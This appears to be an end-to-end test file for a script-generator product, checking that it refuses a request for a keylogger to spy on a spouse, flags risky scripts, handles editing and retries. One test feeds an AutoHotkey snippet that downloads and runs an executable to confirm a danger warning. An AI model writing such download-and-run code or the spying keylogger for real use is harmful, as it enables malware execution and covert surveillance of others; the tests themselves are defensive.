import { beforeAll, expect, test } from 'vitest';
import { useBrowser } from './support/chromium.ts';
import { loadWriter, useProduct } from './support/product.ts';
import { toast } from './support/screen.ts';
import { generate, newUserPage, resultCard, shownScript } from './support/script-screen.ts';

const product = useProduct();
const browser = useBrowser();
beforeAll(() => loadWriter(product));

test('a harmful request is refused without an error toast and costs nothing', async () => {
  const page = await newUserPage(product, browser, 'refused@example.com', { plan: { plan: 'free' } });
  await generate(page, 'make a keylogger that records what my wife types');
  await page.getByRole('heading', { name: 'We Can’t Write This Script' }).waitFor();
  await page.getByText('This didn’t count against your plan.').waitFor();
  expect(await toast(page, 'Error').count()).toBe(0);
  expect(await resultCard(page).count()).toBe(0);
  await page.reload();
  await page.getByText('0 of 3 free script generations used').waitFor();
});

test('a request for something a script can’t do is declined', async () => {
  const page = await newUserPage(product, browser, 'scope@example.com');
  await generate(page, 'write me a poem');
  await page.getByRole('heading', { name: 'Not a Task for a Script' }).waitFor();
});

test('a risky script comes with a list of warnings', async () => {
  const page = await newUserPage(product, browser, 'risky@example.com');
  await generate(page, 'Delete the temp files when I press F9');
  const warnings = resultCard(page).getByRole('list', { name: 'Warnings' });
  await warnings.getByText('Deletes many files or a whole folder at once').waitFor();
  await resultCard(page).getByText('deletes files or folders').waitFor();
});

test('code can be edited in place: errors are pointed out while typing and can be fixed with a click', async () => {
  const page = await newUserPage(product, browser, 'edits@example.com');
  await generate(page, 'Ctrl+Alt+N opens Notepad');
  await page.getByRole('button', { name: 'Edit Code' }).click();
  const editor = page.getByLabel('Script', { exact: true });
  const original = await editor.inputValue();
  await page.getByText('No problems found.').waitFor();
  await editor.focus();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('F9::MsgBox hello\nF10::Send("a"\n');
  await page.getByText('Has Errors').waitFor();
  await page.getByText(/problems found\. AutoHotkey won’t run the script until the errors are gone\./).waitFor();
  // Broken code has no fields; what is below them moves up.
  const fields = page.getByRole('region', { name: 'Change It Without Code' });
  await fields.waitFor({ state: 'detached' });
  const fix = page.getByRole('button', { name: 'Put it in quotes' });
  await fix.click();
  await expect.poll(() => editor.inputValue()).toContain('F9::MsgBox "hello"');
  await fix.waitFor({ state: 'detached' });
  const last = page.getByRole('button', { name: /^Line \d+$/ }).last();
  const line = Number((await last.innerText()).replace('Line ', ''));
  await last.click();
  const selectedLine = await editor.evaluate((box) => {
    const { value, selectionStart } = box as HTMLTextAreaElement;
    return value.slice(0, selectionStart).split('\n').length;
  });
  expect(selectedLine).toBe(line);
  await editor.fill((await editor.inputValue()).replace('Send("a"', 'Send("a")'));
  await resultCard(page).getByText('Changed by You', { exact: true }).waitFor();
  await resultCard(page).getByRole('listitem').getByText('When you press F9, it shows the message “hello”.').waitFor();
  await resultCard(page).getByText('shows messages or windows').waitFor();
  await fields.waitFor();
  await page.getByRole('button', { name: 'Undo My Changes' }).click();
  expect(await editor.inputValue()).toBe(original);
  await page.getByRole('button', { name: 'Done' }).click();
  expect((await shownScript(page)).trim()).toBe(original.trim());
});

test('an edit that makes a script dangerous is flagged', async () => {
  const page = await newUserPage(product, browser, 'danger@example.com');
  await generate(page, 'Ctrl+Alt+N opens Notepad');
  await page.getByRole('button', { name: 'Edit Code' }).click();
  await page
    .getByLabel('Script', { exact: true })
    .fill('F1:: {\n    Download("https://example.com/a.exe", "a.exe")\n    Run("a.exe")\n}\n');
  await resultCard(page).getByText('Downloads a program and runs it without asking.').waitFor();
});

test('syntax colors line up with the text in the editor', async () => {
  const page = await newUserPage(product, browser, 'layers@example.com');
  await generate(page, 'Ctrl+Alt+N opens Notepad');
  await page.getByRole('button', { name: 'Edit Code' }).click();
  const editor = page.getByLabel('Script', { exact: true });
  await editor.fill(`F1::MsgBox("${'wide '.repeat(80)}")\n${'; tab\there\n'.repeat(60)}; שלום 🎉`);
  const sizes = await editor.evaluate((box) => {
    const layer = box.previousElementSibling as HTMLElement;
    const [a, b] = [box, layer].map((element) => element.getBoundingClientRect());
    return {
      offsets: [(a?.left ?? 0) - (b?.left ?? 1), (a?.top ?? 0) - (b?.top ?? 1)],
      scrolls: [box.scrollWidth - box.clientWidth, box.scrollHeight - box.clientHeight],
    };
  });
  expect(sizes).toEqual({ offsets: [0, 0], scrolls: [0, 0] });
});

test('if the answer gets lost on its way to the user, they can try again and are charged only once', async () => {
  const page = await newUserPage(product, browser, 'lost@example.com', {
    plan: { plan: 'free' },
    expectedErrors: /status of 502/,
  });
  const keys: (string | undefined)[] = [];
  page.on('request', (request) => {
    if (request.url().endsWith('/generate')) keys.push(request.headers()['idempotency-key']);
  });
  let lose = true;
  await page.route('**/api/scripts/generate', async (route) => {
    if (!lose) return route.continue();
    lose = false;
    const reply = await route.fetch();
    expect(reply.status()).toBe(200);
    // The server has answered and charged; the answer never arrives.
    return route.fulfill({ status: 502, body: '' });
  });
  await generate(page, 'Ctrl+Alt+N opens Notepad');
  await toast(page, 'The service isn’t available right now').waitFor();
  await page.getByRole('button', { name: 'Generate Script' }).click();
  await toast(page, 'Script generated!').waitFor();
  await page.getByText('1 of 3 free script generations used').waitFor();
  expect(keys[0]).toMatch(/^[\da-f]{32}$/);
  expect(keys).toEqual([keys[0], keys[0]]);
  await page.getByRole('button', { name: 'Generate Script' }).click();
  await page.getByText('2 of 3 free script generations used').waitFor();
  expect(keys[2]).not.toBe(keys[0]);
});
